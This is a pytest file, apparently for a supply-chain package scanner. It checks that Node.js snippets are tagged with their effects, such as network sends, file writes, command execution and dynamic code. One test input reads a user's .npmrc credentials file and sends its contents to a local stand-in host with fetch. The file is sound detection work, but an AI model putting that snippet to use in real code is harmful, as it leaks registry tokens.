"""The tables of Node."""

from __future__ import annotations

from collections.abc import Callable

import pytest

from yanmen.supply.packages.reading.effects import Effect

Effects = Callable[..., list[Effect]]


@pytest.mark.parametrize(
    ("code", "does"),
    [
        ("require('http').get('http://127.0.0.1:9/x')", "receives"),
        ("require('https').request({ hostname: 'h', method: 'POST' })", "sends"),
        ("fetch('http://127.0.0.1:9', { method: 'POST', body: 'x' })", "sends"),
        ("import fs from 'fs'; fs.promises.writeFile('/x', 'y')", "writes"),
        ("require('fs').readFile('/home/user/.npmrc', (e, d) => fetch('http://127.0.0.1:9/' + d))", "reads"),
        ("require('child_process').spawn('a', ['b'])", "runs-command"),
        ("(() => {}).constructor('return 1')(); Function('x')()", "runs-code"),
        ("require('dns').lookup('x')", "looks-up"),
        (
            "const f = require('fs').createWriteStream('/x'); require('http').get('http://127.0.0.1:9', r => r.pipe(f))",
            "writes",
        ),
    ],
)
def test_they_say_what_they_do(code: str, does: str, effects: Effects) -> None:
    """Whichever way they are called."""
    assert does in {one.does for one in effects(code, "npm")}
